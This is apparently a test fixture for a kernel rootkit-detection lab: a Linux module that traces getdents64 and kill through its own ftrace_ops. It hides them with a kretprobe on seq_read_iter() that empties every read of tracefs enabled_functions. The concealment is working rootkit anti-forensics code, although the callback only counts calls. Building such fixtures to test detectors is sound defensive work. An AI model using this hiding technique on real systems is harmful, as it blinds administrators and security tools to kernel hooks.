// SPDX-License-Identifier: GPL-2.0
/*
 * pg_ops_filter: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_ftrace_ops.py).
 * It traces functions with an ftrace_ops of its own and hides that from the text view: every
 * read of tracefs enabled_functions, by every process, ends at once (a kretprobe on
 * seq_read_iter() turns it into end of file), so the file shows no function at all. The ops
 * stays on ftrace_ops_list in kernel memory, with its filter hash holding the functions.
 *
 *   insmod pg_ops_filter.ko [funcs=__x64_sys_getdents64,__x64_sys_kill]
 *
 * rmmod unregisters the ops and the probe.
 */
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/string.h>

static char funcs[128] = "__x64_sys_getdents64,__x64_sys_kill";
module_param_string(funcs, funcs, sizeof(funcs), 0444);
MODULE_PARM_DESC(funcs, "comma-separated functions the ops traces");
static unsigned long calls, cut;
module_param(calls, ulong, 0444);
module_param(cut, ulong, 0444);
MODULE_PARM_DESC(cut, "reads of enabled_functions turned into end of file");

static bool registered, probed;

static void notrace pg_ops_callback(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	WRITE_ONCE(calls, READ_ONCE(calls) + 1);
}

static struct ftrace_ops pg_ops = {
	.func = pg_ops_callback,
};

struct pg_call {
	struct kiocb *iocb;
};

static int pg_entry(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	((struct pg_call *)ri->data)->iocb = (struct kiocb *)regs->di;
	return 0;
}

static int pg_return(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct kiocb *iocb = ((struct pg_call *)ri->data)->iocb;
	struct file *file = iocb ? iocb->ki_filp : NULL;

	if (file && (long)regs_return_value(regs) > 0 &&
	    !strcmp(file->f_path.dentry->d_name.name, "enabled_functions")) {
		regs_set_return_value(regs, 0);
		WRITE_ONCE(cut, READ_ONCE(cut) + 1);
	}
	return 0;
}

static struct kretprobe pg_probe = {
	.kp.symbol_name = "seq_read_iter",
	.entry_handler = pg_entry,
	.handler = pg_return,
	.data_size = sizeof(struct pg_call),
	.maxactive = 64,
};

static int pg_filter_funcs(void)
{
	char list[sizeof(funcs)], *rest = list, *name;
	int err;

	strscpy(list, funcs, sizeof(list));
	while ((name = strsep(&rest, ",")) != NULL) {
		if (!*name)
			continue;
		err = ftrace_set_filter(&pg_ops, name, strlen(name), 0);
		if (err) {
			pr_err("pg_ops_filter: ftrace_set_filter(%s): %d\n", name, err);
			return err;
		}
	}
	return 0;
}

static void pg_undo(void)
{
	if (probed)
		unregister_kretprobe(&pg_probe);
	if (registered)
		unregister_ftrace_function(&pg_ops);
	ftrace_free_filter(&pg_ops);
}

static int __init pg_ops_filter_init(void)
{
	int err = pg_filter_funcs();

	if (!err)
		err = register_ftrace_function(&pg_ops);
	registered = !err;
	if (!err)
		err = register_kretprobe(&pg_probe);
	probed = registered && !err;
	if (err) {
		pr_err("pg_ops_filter: %d\n", err);
		pg_undo();
		return err;
	}
	pr_info("pg_ops_filter: %s traced by %ps, enabled_functions emptied\n", funcs,
		pg_ops_callback);
	return 0;
}

static void __exit pg_ops_filter_exit(void)
{
	pg_undo();
}

module_init(pg_ops_filter_init);
module_exit(pg_ops_filter_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: an ftrace ops hidden from enabled_functions");
